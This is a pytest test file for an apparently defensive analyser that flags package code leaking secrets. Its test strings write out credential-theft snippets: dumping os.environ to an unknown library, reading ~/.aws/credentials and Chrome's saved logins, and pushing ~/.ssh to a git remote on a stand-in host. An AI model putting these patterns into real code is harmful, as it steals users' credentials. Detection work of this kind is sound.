"""What early code takes from the machine is told where a library gets it of which nothing is known."""

import pytest
from engine_flows import flows, program_of

from ostiary.program.flow import AS_PATH, AS_TABLE, AS_TEXT, Act, Taint

HEAD = (
    "import base64, json, os, unheard_of\nALL = dict(os.environ)\nclient = unheard_of.Client('x')\n"
)
TEXTS = [
    "unheard_of.tell(str(ALL))",
    "unheard_of.tell(message=json.dumps({**os.environ}).encode())",
    "unheard_of.tell([f'{ALL}'])",
    "client.row.set({'e': repr(os.environ)})",
    "client.tell(base64.b64encode(json.dumps(ALL).encode()))",
    "with unheard_of.opened('x') as f:\n    f.write('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
    "client.tell(open(os.path.expanduser('~/.aws/credentials')).read())",
]
TABLES = [
    "client.track('x', ALL)",
    "client.log_parameters(os.environ)",
    "client.report(os.environ['AWS_SECRET_ACCESS_KEY'])",
]
ORDINARY = [
    "client.start(ALL)",
    "unheard_of.Settings(**os.environ)",
    "unheard_of.Env(os.environ).read()",
    "client.start(unheard_of.Env(os.environ))",
    "client.start('x', env=[f'{k}={v}' for k, v in os.environ.items()])",
    "unheard_of.safe_load(os.path.expandvars(open('x').read()))",
    "client.report('x', token=os.environ['OTHER_TOKEN'])",
    "client.report(os.environ['UNHEARD_TOKEN'])",
    "client.load_key(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
    "unheard_of.packb(ALL)",
    "print(json.dumps(ALL))",
    "client.tell({k: v for k, v in os.environ.items() if k.startswith('SAMPLE_')})",
]


def told(text: str, form: str = "wheel") -> list[str]:
    return [one.target for one in flows(HEAD + text + "\n", Act.HAND, form)]


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_of_all_of_it(text: str) -> None:
    assert told(text) == [AS_TEXT]


@pytest.mark.parametrize("text", TABLES)
def test_what_a_function_takes_for_data(text: str) -> None:
    assert told(text) == [AS_TABLE]


@pytest.mark.parametrize("text", ORDINARY)
def test_settings_and_a_client_s_own_key(text: str) -> None:
    assert told(text) == []


def test_a_library_that_is_there_to_send() -> None:
    text = "import os, posthog\nposthog.{}('start', dict(os.environ))"
    (one,) = flows(text.format("capture"), Act.SEND, "wheel")
    assert one.has(Taint.ENVIRONMENT)
    assert not flows(text.format("setup"), Act.SEND, "wheel")


@pytest.mark.parametrize("form", ["wheel", "sdist"])
def test_whoever_calls_may_hand_on_what_he_wants(form: str) -> None:
    assert told("def go():\n    unheard_of.tell(str(ALL))", form) == []


def test_a_module_of_the_artifact_is_no_library() -> None:
    files = {"sample/__init__.py": HEAD + "unheard_of.tell(str(ALL))", "unheard_of/x.py": "A = 1\n"}
    assert not [one for one in program_of("wheel", files).flows if one.act is Act.HAND]


REPOSITORY = """
import os, shutil
from git import Repo
shutil.copytree({what}, '/tmp/kept/s')
Repo.init('/tmp/kept').create_remote('o', 'https://u@c.example.invalid/r').{how}('HEAD')
"""
SCRIPT = """
require('fs').writeFileSync('/tmp/kept/e', {what});
require('simple-git')('/tmp/kept').add('.').commit('x').{how}('https://u@c.example.invalid/r', 'main');
"""
HOME = "os.path.expanduser('~/.ssh')"


@pytest.mark.parametrize(
    ("what", "how", "form", "sent"),
    [
        (HOME, "push", "wheel", True),
        (HOME, "fetch", "wheel", False),
        ("'docs'", "push", "wheel", False),
        ("JSON.stringify(process.env)", "push", "npm", True),
        ("JSON.stringify(process.env)", "pull", "npm", False),
        ("'x'", "push", "npm", False),
    ],
)
def test_a_repository_that_loot_was_put_into(what: str, how: str, form: str, sent: bool) -> None:
    text = (SCRIPT if form == "npm" else REPOSITORY).format(what=what, how=how)
    assert any(one.target for one in flows(text, Act.SEND, form)) is sent


def test_a_short_file_of_a_long_package_is_looked_at_where_it_takes_anything() -> None:
    long = "".join(
        f"def f{at}(x):\n    return x + {at}  # one of many plain functions\n" for at in range(2000)
    )
    files = {"sample/__init__.py": f"{HEAD}unheard_of.tell(str(ALL))", "sample/long.py": long}
    assert [one for one in program_of("wheel", files).flows if one.act is Act.HAND]


LOOT = "open(os.path.expanduser('~/.aws/credentials')).read()"
PLACE = "os.path.expanduser('~/.aws/credentials')"
HELD = [
    (f"client.payload = {LOOT}\nclient.go()", AS_TABLE),
    (f"client['payload'] = {LOOT}", AS_TABLE),
    (f"unheard_of.settings.extra = {LOOT}", AS_TABLE),
    (f"class Row(unheard_of.Row):\n    body = {LOOT}\nRow().save()", AS_TEXT),
    (f"print({LOOT}, file=unheard_of.stream())", AS_TEXT),
    (f"json.dump({LOOT}, unheard_of.stream())", AS_TEXT),
    (f"import shutil\nshutil.copyfileobj(open({PLACE}), unheard_of.stream())", AS_TEXT),
    (
        (
            "import sqlite3\npath = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n"
            "unheard_of.tell(sqlite3.connect(path).execute('select * from logins').fetchall())"
        ),
        AS_TEXT,
    ),
    (f"client.fput_object('b', 'k', {PLACE})", AS_TABLE),
    (f"client.add_attachment('A-1', attachment={PLACE})", AS_TABLE),
    (f"client.SetContentFile({PLACE})", AS_TABLE),
    (f"client.upload_from_path({PLACE})", AS_TABLE),
    (f"client.upload_from_text({LOOT})", AS_TEXT),
    (f"client.log_text({LOOT})", AS_TEXT),
    (f"client.fill('#a', {LOOT})", AS_TEXT),
    (f"import io\nclient.build(file=io.BytesIO({LOOT}.encode()))", AS_TEXT),
    (
        (
            "import logging\nlog = logging.getLogger('x')\nlog.addHandler(unheard_of.Handler('t'))\n"
            f"log.error({LOOT})"
        ),
        AS_TEXT,
    ),
    (f"unheard_of.process({PLACE})", AS_PATH),
]
KEPT = [
    f"unheard_of.api_key = {LOOT}",
    f"client.credentials = {LOOT}",
    "client.settings = dict(os.environ)",
    f"client.load_profile({PLACE})",
    f"client.configure(path={PLACE})",
    f"client.login(key_file={PLACE})",
    f"import logging\nlog = logging.getLogger('x')\nlog.error({LOOT})",
    f"import logging, rich\nlog = logging.getLogger('x')\nlog.addHandler(rich.Handler())\nlog.error({LOOT})",
    f"client.loads_text({LOOT})",
    f"import io\nclient.load(io.BytesIO({LOOT}.encode()))",
    f"class Own:\n    body = {LOOT}\nOwn().save()" + "\n",
    f"print({LOOT}, file=open('x', 'w'))",
    f"import configparser\nread = configparser.ConfigParser()\nread.read({PLACE})\nunheard_of.Own(read)",
    f"def later():\n    client.payload = {LOOT}",
]


@pytest.mark.parametrize(("text", "how"), HELD)
def test_parts_files_and_paths(text: str, how: str) -> None:
    assert set(told(text)) == {how}


@pytest.mark.parametrize("text", KEPT)
def test_parts_and_paths_of_its_own(text: str) -> None:
    assert told(text) == []


def test_a_service_is_told_a_path() -> None:
    text = f"import os, wandb\nwandb.save({PLACE})\n"
    assert [one.name for one in flows(text, Act.SEND, "wheel")] == ["wandb.save"]


def test_what_is_read_is_not_written_there() -> None:
    text = f"import os, unheard_of\nunheard_of.Client().login('a', config_path={PLACE})\n"
    assert not flows(text, Act.WRITE, "wheel")


def test_an_address_with_loot_in_it_is_asked_for() -> None:
    text = f"import os, unheard_of\nunheard_of.parse('https://f.example.invalid/?a=' + {LOOT})\n"
    assert [one.act for one in flows(text, Act.SEND, "wheel")] == [Act.SEND]
    own = f"import os, unheard_of\nunheard_of.parse('postgres://f.example.invalid/?a=' + {LOOT})\n"
    assert not flows(own, Act.SEND, "wheel")


def test_logging_in_takes_no_data() -> None:
    text = f"import os, unheard_of\nunheard_of.Client().login('a', path={PLACE})\n"
    assert [one.target for one in flows(text, Act.HAND, "wheel")] == [AS_PATH]
